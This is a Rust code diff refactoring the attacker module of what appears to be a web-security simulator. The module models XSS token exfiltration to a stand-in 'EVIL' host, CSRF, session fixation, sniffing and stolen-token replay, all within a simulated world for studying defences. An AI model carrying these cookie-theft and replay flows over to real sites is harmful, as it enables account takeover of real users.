@@ -1,23 +1,26 @@
 //! What attackers do: with a page of their own in the victim's browser, with a script
 //! in the shop's page, and with a machine of their own.
 
-use super::{Client, page, wire};
+use super::{page, wire};
 use crate::sim::browser::RequestContext;
 use crate::sim::browser::request::{Credentials, FetchMode, RequestKind};
 use crate::sim::clock::Time;
+use crate::sim::credentials::Client;
 use crate::sim::exchange::{Call, Exchange, Plan, Purpose, Reply};
-use crate::sim::http::{Request, Response};
+use crate::sim::http::Request;
+use crate::sim::lane;
 use crate::sim::origin::{Origin, Scheme, Url};
+use crate::sim::paths;
 use crate::sim::scenario::action::Forgery;
 use crate::sim::scenario::settings::{SiteScheme, TokenStorage};
 use crate::sim::server::cookies::{self, DOMAIN};
-use crate::sim::server::{ATTACKER, PASSWORDS, Server, dpop, routes};
+use crate::sim::server::dpop;
+use crate::sim::shop::{self, ATTACKER, BLOG, EVIL, SHOP};
+use crate::sim::site::endpoints;
 use crate::sim::state::{Actor, Loot};
+use crate::sim::stolen::{self, REFRESH};
 use crate::sim::trace::What;
-use crate::sim::world::{BLOG, EVIL, SHOP, World};
-
-/// How loot is named beside the header lines.
-pub(super) const REFRESH: &str = "refresh_token";
+use crate::sim::world::World;
 
 /// A script in the shop's page reads what scripts can read, and sends it away. Where the
 /// page could ask for a token, it does so first.
@@ -44,7 +47,7 @@ fn token_request(world: &mut World, tab: u8) -> Option<Request> {
     if !by_cookie || settings.access_storage == TokenStorage::Cookie {
         return None;
     }
-    let lane = world.lane;
+    let lane = lane::of(world.lane);
     let me = Actor::Tab(tab);
     lane.renewal(&mut Client { world, me })
 }
@@ -55,7 +58,7 @@ fn exfiltrate(world: &mut World, tab: u8, mut found: Vec<(String, String)>) {
         .into_iter()
         .map(|cookie| (cookie.name, cookie.value))
         .collect();
-    loot_cookies(world, &readable);
+    stolen::keep_cookies(world, &readable);
     // What the page's code keeps in variables of its own is out of reach.
     let tab_storage = world.state.all::<String>(Actor::Tab(tab));
     let stored: Vec<(String, String)> = world
@@ -68,19 +71,19 @@ fn exfiltrate(world: &mut World, tab: u8, mut found: Vec<(String, String)>) {
                 .then(|| (name.to_owned(), value.clone()))
         })
         .collect();
-    take_tokens(world, &stored);
-    take_tokens(world, &found);
+    stolen::keep_tokens(world, &stored);
+    stolen::keep_tokens(world, &found);
     found.extend(readable);
     found.extend(stored);
     let url = attackers(EVIL, "/collect");
     let mut request = Request::new("POST", url.clone());
     request.headers.add("Content-Type", "text/plain");
-    request.body = pairs(&found, "&");
+    request.body = stolen::joined(&found, "&");
     let kind = RequestKind::Fetch {
         mode: FetchMode::NoCors,
         credentials: Credentials::Omit,
     };
-    let shop = world.url(routes::PAGE).origin;
+    let shop = world.url(paths::PAGE).origin;
     let context = RequestContext::within(&shop, url, "POST", kind);
     let exchange = Exchange {
         from: Actor::Script,
@@ -99,7 +102,7 @@ fn exfiltrate(world: &mut World, tab: u8, mut found: Vec<(String, String)>) {
 
 /// A script in the shop's page has the page's own code send a request.
 pub fn xss_ride(world: &mut World, tab: u8) {
-    let call = Call::new("POST", routes::WRITE);
+    let call = Call::new("POST", paths::WRITE);
     let request = page::compose(world, Actor::Tab(tab), &call);
     let exchange = Exchange {
         attack: Some(world.now),
@@ -122,14 +125,14 @@ pub enum Csrf {
 /// A page of the attacker in the victim's browser.
 pub fn csrf(world: &mut World, how: Csrf) {
     let evil = Origin::new(Scheme::Https, EVIL);
-    let url = world.url(routes::WRITE);
+    let url = world.url(paths::WRITE);
     let (request, context) = match how {
         Csrf::Form => (
             Request::new("POST", url.clone()).form("text=gotcha".to_owned()),
             RequestContext::navigation(url, "POST", &evil),
         ),
         Csrf::Image => {
-            let url = world.url(&format!("{}?text=gotcha", routes::WRITE));
+            let url = world.url(&format!("{}?text=gotcha", paths::WRITE));
             (
                 Request::new("GET", url.clone()),
                 RequestContext::within(&evil, url, "GET", RequestKind::Image),
@@ -157,14 +160,14 @@ pub fn csrf(world: &mut World, how: Csrf) {
 
 /// Copies whatever credential the victim's browser holds for the shop.
 pub fn steal(world: &mut World, tab: u8) {
-    let url = world.url(routes::READ);
+    let url = world.url(paths::READ);
     let line = wire::jar(world, Actor::Browser)
         .select(&RequestContext::typed(url), world.now)
         .header();
     // What is stolen now takes the place of what was stolen before.
     world.sweep::<Loot>(Actor::Thief, |_, _| true);
     if let Some(line) = line {
-        loot(world, "Cookie", line);
+        stolen::keep(world, "Cookie", line);
     }
     let me = Actor::Tab(tab);
     let client = Client { world, me };
@@ -175,44 +178,28 @@ pub fn steal(world: &mut World, tab: u8) {
         .chain(refresh)
         .map(|(name, value)| (name.to_owned(), value))
         .collect();
-    take_tokens(world, &texts);
+    stolen::keep_tokens(world, &texts);
     // The key of a proof cannot be copied; a proof that was sent can.
     if world.settings.dpop
-        && let Some(proof) = last_proof(world, me)
+        && let Some(proof) = world.proofs_sent.get(&me).cloned()
     {
-        loot(world, "DPoP", proof);
+        stolen::keep(world, "DPoP", proof);
     }
     let text = "copies what the browser holds".to_owned();
     let who = Actor::Thief;
     world.emit(What::Note { who, text });
 }
 
-/// The last proof that a client sent with a read.
-fn last_proof(world: &World, client: Actor) -> Option<String> {
-    world
-        .events
-        .iter()
-        .rev()
-        .find_map(|event| match &event.what {
-            What::Request { message, from, .. }
-                if *from == client && message.url.path == routes::READ =>
-            {
-                message.headers.get("DPoP").map(str::to_owned)
-            }
-            _ => None,
-        })
-}
-
 /// The thief reads with what they have.
 pub fn replay(world: &mut World) {
-    let mut request = Request::new("GET", world.url(routes::READ));
+    let mut request = Request::new("GET", world.url(paths::READ));
     let since = attach_loot(world, &mut request, &["Cookie", "Authorization", "DPoP"]);
     send_loot(world, request, since, Purpose::Replay);
 }
 
 /// The thief asks for new tokens with a stolen refresh token.
 pub fn replay_refresh(world: &mut World) {
-    let url = world.url(routes::TOKEN);
+    let url = world.url(paths::TOKEN);
     let form = "grant_type=refresh_token&client_id=shop-web";
     let token = world.state.get::<Loot>(Actor::Thief, REFRESH).cloned();
     let (request, since) = match token {
@@ -231,22 +218,19 @@ pub fn replay_refresh(world: &mut World) {
 
 /// The attacker gets a session ID from the shop, to plant it in the victim's browser.
 pub fn fixate(world: &mut World) {
-    let request = Request::new("GET", world.url(routes::START));
+    let request = Request::new("GET", world.url(paths::START));
     let exchange = own(world, request, Purpose::AttackerStart);
     wire::send(world, exchange);
 }
 
 /// The attacker logs in with their own account.
 pub fn log_in(world: &mut World, then: Plan) {
-    let password = PASSWORDS
-        .iter()
-        .find(|(user, _)| *user == ATTACKER)
-        .map_or("", |(_, password)| password);
+    let password = shop::password(ATTACKER);
     let body = format!(r#"{{"user":"{ATTACKER}","password":"{password}","client_id":"shop-web"}}"#);
-    let mut request = Request::new("POST", world.url(routes::LOG_IN)).json(body);
-    let lane = world.lane;
+    let mut request = Request::new("POST", world.url(paths::LOG_IN)).json(body);
+    let lane = lane::of(world.lane);
     let me = Actor::Thief;
-    lane.introduce(&mut Client { world, me }, &mut request);
+    lane.prove_key(&mut Client { world, me }, &mut request);
     let exchange = own(world, request, Purpose::AttackerLogIn { then });
     wire::send(world, exchange);
 }
@@ -254,7 +238,7 @@ pub fn log_in(world: &mut World, then: Plan) {
 /// Someone listens while the person opens the shop without https.
 pub fn sniff(world: &mut World) {
     world.sniffed = true;
-    let mut url = world.url(routes::READ);
+    let mut url = world.url(paths::READ);
     url.origin = Origin::new(Scheme::Http, SHOP);
     let exchange = Exchange {
         from: Actor::Tab(1),
@@ -266,30 +250,7 @@ pub fn sniff(world: &mut World) {
         reply: None,
     };
     wire::send(world, exchange);
-    page::call(world, Actor::Tab(1), Call::new("GET", routes::READ));
-}
-
-/// What everyone on the network can read, where someone listens and nothing is encrypted.
-pub fn overhear(world: &mut World, request: &Request, response: Option<&Response>) {
-    if !world.sniffed || request.url.origin.scheme != Scheme::Http {
-        return;
-    }
-    if let Some(response) = response {
-        loot_cookies(world, &set_pairs(response));
-        take_tokens(world, &tokens_of(response));
-        return;
-    }
-    if let Some(line) = request.headers.get("Cookie") {
-        loot_cookies(world, &read_pairs(line));
-    }
-    for line in ["Authorization", "DPoP"] {
-        if let Some(value) = request.headers.get(line) {
-            loot(world, line, value.to_owned());
-        }
-    }
-    if let Some(token) = request.field(REFRESH) {
-        loot(world, REFRESH, token.to_owned());
-    }
+    page::call(world, Actor::Tab(1), Call::new("GET", paths::READ));
 }
 
 /// What happens when an answer for the attacker has arrived.
@@ -297,23 +258,25 @@ pub fn answered(world: &mut World, purpose: &Purpose, reply: &Reply) {
     match purpose {
         Purpose::AttackerStart => {
             // Whoever logs in with this session ID shares the session.
-            let cookies = set_pairs(&reply.response);
-            loot_cookies(world, &cookies);
+            let cookies = stolen::cookies_of(&reply.response);
+            stolen::keep_cookies(world, &cookies);
             plant(world, &cookies, "/");
         }
         Purpose::AttackerLogIn { then: Plan::Toss } => {
-            plant(world, &set_pairs(&reply.response), "/api")
+            plant(world, &stolen::cookies_of(&reply.response), "/api")
         }
         Purpose::AttackerLogIn {
             then: Plan::Forge(forgery),
         } => forge(world, *forgery, reply),
         Purpose::ThiefRefresh if reply.rule.accepts() => {
-            take_tokens(world, &tokens_of(&reply.response));
-            loot_cookies(world, &set_pairs(&reply.response));
+            stolen::keep_tokens(world, &stolen::tokens_of(&reply.response));
+            stolen::keep_cookies(world, &stolen::cookies_of(&reply.response));
         }
-        Purpose::ScriptRefresh { tab } => exfiltrate(world, *tab, tokens_of(&reply.response)),
+        Purpose::ScriptRefresh { tab } => {
+            exfiltrate(world, *tab, stolen::tokens_of(&reply.response))
+        }
         // A session that was stolen goes on under a new ID for whoever is first.
-        Purpose::Replay => loot_cookies(world, &set_pairs(&reply.response)),
+        Purpose::Replay => stolen::keep_cookies(world, &stolen::cookies_of(&reply.response)),
         _ => {}
     }
 }
@@ -331,7 +294,7 @@ fn plant(world: &mut World, planted: &[(String, String)], path: &str) {
     for (name, value) in planted {
         // The longer path goes first, where a server takes the first of two.
         let path = if name.ends_with(cookies::REFRESH) {
-            routes::TOKEN
+            paths::TOKEN
         } else {
             path
         };
@@ -357,10 +320,10 @@ fn plant(world: &mut World, planted: &[(String, String)], path: &str) {
 }
 
 fn forge(world: &mut World, forgery: Forgery, reply: &Reply) {
-    let lane = world.lane;
-    let mut server = Server::new(world, Actor::Thief, None);
+    let lane = lane::of(world.lane);
+    let mut server = endpoints::server(world, Actor::Thief, None);
     let (name, value) = lane.forge(&mut server, forgery, &reply.response);
-    let mut request = Request::new("GET", world.url(routes::READ));
+    let mut request = Request::new("GET", world.url(paths::READ));
     // A bound token of their own the attacker can prove, whatever it says of others.
     let token = value.strip_prefix("Bearer ").map(str::to_owned);
     match token.filter(|_| world.settings.dpop) {
@@ -418,84 +381,6 @@ fn own(world: &World, request: Request, purpose: Purpose) -> Exchange {
         attack: None,
         ..bare(world, request, purpose)
     }
-}
-
-/// The attacker's server was sent cookies of the shop.
-pub fn take_cookies(world: &mut World, line: &str) {
-    loot_cookies(world, &read_pairs(line));
-}
-
-/// Keeps cookies beside those that are known, a newer value in place of an older one.
-pub(super) fn loot_cookies(world: &mut World, fresh: &[(String, String)]) {
-    let known = world.state.get::<Loot>(Actor::Thief, "Cookie");
-    let mut all = known.map_or_else(Vec::new, |loot| read_pairs(&loot.value));
-    for (name, value) in fresh {
-        match all.iter_mut().find(|(own, _)| own == name) {
-            Some(own) => own.1.clone_from(value),
-            None => all.push((name.clone(), value.clone())),
-        }
-    }
-    all.retain(|(_, value)| !value.is_empty());
-    if !all.is_empty() {
-        loot(world, "Cookie", pairs(&all, "; "));
-    }
-}
-
-fn read_pairs(line: &str) -> Vec<(String, String)> {
-    line.split("; ")
-        .filter_map(|pair| pair.split_once('='))
-        .map(|(name, value)| (name.to_owned(), value.to_owned()))
-        .collect()
-}
-
-/// Keeps loot, with the moment when it was first had.
-fn loot(world: &mut World, line: &str, value: String) {
-    let known = world.state.get::<Loot>(Actor::Thief, line);
-    let since = known.map_or(world.now, |known| known.since);
-    let line = line.to_owned();
-    world.put(Actor::Thief, &line.clone(), Loot { line, value, since });
-}
-
-/// Keeps stolen tokens as the headers and fields in which they will be sent.
-pub(super) fn take_tokens(world: &mut World, texts: &[(String, String)]) {
-    let scheme = if world.settings.dpop {
-        "DPoP"
-    } else {
-        "Bearer"
-    };
-    for (name, value) in texts {
-        match name.as_str() {
-            "access_token" => loot(world, "Authorization", format!("{scheme} {value}")),
-            REFRESH => loot(world, REFRESH, value.clone()),
-            _ => {}
-        }
-    }
-}
-
-/// The tokens in the body of an answer.
-fn tokens_of(response: &Response) -> Vec<(String, String)> {
-    ["access_token", REFRESH]
-        .iter()
-        .filter_map(|name| Some(((*name).to_owned(), response.member(name)?)))
-        .collect()
-}
-
-/// The names and values of an answer's cookies.
-fn set_pairs(response: &Response) -> Vec<(String, String)> {
-    response
-        .headers
-        .all("Set-Cookie")
-        .filter_map(|line| line.split(';').next()?.split_once('='))
-        .map(|(name, value)| (name.to_owned(), value.to_owned()))
-        .collect()
-}
-
-fn pairs(pairs: &[(String, String)], between: &str) -> String {
-    let pairs: Vec<String> = pairs
-        .iter()
-        .map(|(name, value)| format!("{name}={value}"))
-        .collect();
-    pairs.join(between)
 }
 
 fn attackers(host: &str, path: &str) -> Url {
